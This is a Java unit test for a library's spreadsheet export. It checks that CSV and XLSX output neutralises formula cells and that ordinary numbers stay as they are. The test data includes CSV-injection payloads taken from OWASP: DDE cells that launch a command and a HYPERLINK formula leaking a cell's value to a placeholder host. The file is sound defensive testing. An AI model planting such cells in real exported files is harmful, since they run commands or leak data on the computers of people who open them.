package org.signalbox.ingest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.signalbox.engine.Cancellation;
import org.signalbox.engine.RunContext;
import org.signalbox.engine.Workers;
import org.signalbox.task.Table;
import org.signalbox.task.TextColumn;

/** Cells from OWASP's page on CSV injection, and numbers that must stay numbers. */
class FormulasTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "-2+3",
        "-1-1",
        "+SUM(A1:A2)",
        "-(1)",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=HYPERLINK(\"http://x.example?leak=\"&A1)",
        "\uff1d1+1",
        "-",
        "+"
      })
  void whatASpreadsheetWouldRunIsLedByAnApostrophe(String cell) {
    assertEquals("'" + cell, Formulas.ESCAPED.cell(cell));
    assertEquals(cell, Formulas.KEPT.cell(cell));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-3.5",
        "+1e-5",
        "-.5",
        "-1,234.5",
        "-3.5 ms",
        "-12 %",
        "-3\u00a0\u00b0C",
        "a=b",
        "",
        "0"
      })
  void numbersAndWordsStayAsTheyAre(String cell) {
    assertEquals(cell, Formulas.ESCAPED.cell(cell));
  }

  private static Table hostile() {
    return new Table(
        "hostile", List.of(TextColumn.of("=cmd|' /C calc'!A0", List.of("+1+1", "-3.5", "plain"))));
  }

  @Test
  void aTablesHeadAndCellsAreEscapedInCsv(@TempDir Path folder) throws IOException {
    Path file = folder.resolve("a.csv");
    TableFile.write(hostile(), file, context());
    assertEquals(
        List.of("'=cmd|' /C calc'!A0", "'+1+1", "-3.5", "plain"), Files.readAllLines(file));
  }

  @Test
  void aSheetHoldsTextsAndNoFormula(@TempDir Path folder) throws IOException {
    Path file = folder.resolve("a.xlsx");
    TableFile.write(hostile(), file, context());
    try (ZipFile zip = new ZipFile(file.toFile())) {
      String sheet = text(zip, "xl/worksheets/sheet1.xml");
      assertFalse(sheet.contains("<f"), sheet);
      assertTrue((sheet + text(zip, "xl/sharedStrings.xml")).contains("=cmd|"));
    }
  }

  private static String text(ZipFile zip, String entry) throws IOException {
    try (var in = zip.getInputStream(zip.getEntry(entry))) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private static RunContext context() {
    return new RunContext(
        phase -> {}, done -> {}, text -> {}, new Cancellation(), Workers.sameThread(), () -> 0, 1);
  }
}
